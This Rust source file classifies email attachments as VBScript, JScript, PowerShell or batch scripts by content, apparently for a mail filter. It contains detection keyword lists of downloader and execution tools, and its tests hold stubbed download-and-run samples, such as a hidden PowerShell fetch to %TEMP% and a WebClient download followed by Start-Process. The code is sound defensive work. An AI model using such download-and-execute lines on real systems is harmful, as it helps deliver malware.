//! Windows scripts told by content: VBScript, JScript, PowerShell and batch
//! files that Windows Script Host or cmd run on a double-click. Malspam
//! names them `.js`/`.vbs`/`.wsf`, but a name is the sender's to choose, so a
//! text file whose content is such a script is one, whatever it is called.
//!
//! A script here needs two things honest text rarely has together: a call
//! into the machine (Windows Script Host, ActiveX/COM objects, a downloader
//! or shell) and the structure of code in that language. A code snippet in
//! a `.txt` that does both is a script too: it runs if renamed, and a
//! mail administrator would rather see it held.

/// The language of a script, or None for anything else.
pub fn sniff(data: &[u8]) -> Option<&'static str> {
    let head = &data[..data.len().min(64 * 1024)];
    if head.contains(&0) {
        return None;
    }
    let text = String::from_utf8_lossy(head).to_ascii_lowercase();
    let has = |words: &[&str]| words.iter().any(|w| text.contains(w));
    let count = |words: &[&str]| words.iter().filter(|w| text.contains(*w)).count();
    let wsh_calls = [
        "wscript.",
        "createobject(",
        "getobject(",
        "activexobject",
        "wscript.shell",
        "shell.application",
        "adodb.stream",
        "msxml2.xmlhttp",
        "microsoft.xmlhttp",
        "winhttp.winhttprequest",
        "scripting.filesystemobject",
    ];
    if has(&wsh_calls) {
        let vbs = count(&[
            "dim ",
            "end function",
            "end sub",
            "on error resume next",
            "set ",
            "then\n",
            "end if",
            "wend",
            "chr(",
        ]);
        if vbs >= 2 {
            return Some("VBScript");
        }
        let js = count(&[
            "var ",
            "function ",
            "new activexobject",
            "try {",
            "catch(",
            "catch (",
            "string.fromcharcode",
            "eval(",
            "});",
        ]);
        if js >= 2 {
            return Some("JScript");
        }
    }
    if text.starts_with("@echo off") || text.starts_with("@echo off\r") {
        let runs = count(&[
            "powershell",
            "bitsadmin",
            "certutil",
            "curl ",
            "rundll32",
            "regsvr32",
            "mshta",
            "start ",
            "%temp%",
        ]);
        if runs >= 1 {
            return Some("batch script");
        }
    }
    let ps = count(&[
        "invoke-webrequest",
        "invoke-expression",
        "iex(",
        "iex (",
        "downloadstring(",
        "downloadfile(",
        "new-object net.webclient",
        "start-process",
        "-encodedcommand",
        "frombase64string(",
        "$env:",
    ]);
    if ps >= 2 {
        return Some("PowerShell script");
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn scripts_by_content() {
        let vbs = b"Dim http\r\nOn Error Resume Next\r\nSet http = CreateObject(\"MSXML2.XMLHTTP\")\r\nhttp.Open \"GET\", u\r\n";
        assert_eq!(sniff(vbs), Some("VBScript"));
        let js =
            b"var s = new ActiveXObject('WScript.Shell');\nfunction go() { s.Run('cmd /c x'); }\n";
        assert_eq!(sniff(js), Some("JScript"));
        let ps = b"$c = New-Object Net.WebClient\n$c.DownloadFile($u, \"$env:TEMP\\x.exe\")\nStart-Process x.exe\n";
        assert_eq!(sniff(ps), Some("PowerShell script"));
        let bat = b"@echo off\r\npowershell -w hidden -c iwr http://x/y -o %TEMP%\\y.exe\r\n";
        assert_eq!(sniff(bat), Some("batch script"));
    }

    #[test]
    fn prose_and_code_without_machine_calls_are_not_scripts() {
        assert_eq!(
            sniff(b"Dear team, please set the meeting for Friday. Function owners attend.\n"),
            None
        );
        assert_eq!(
            sniff(b"var x = 1;\nfunction add(a, b) { return a + b; }\n"),
            None
        );
        assert_eq!(sniff(b"\x00\x01binary"), None);
    }
}
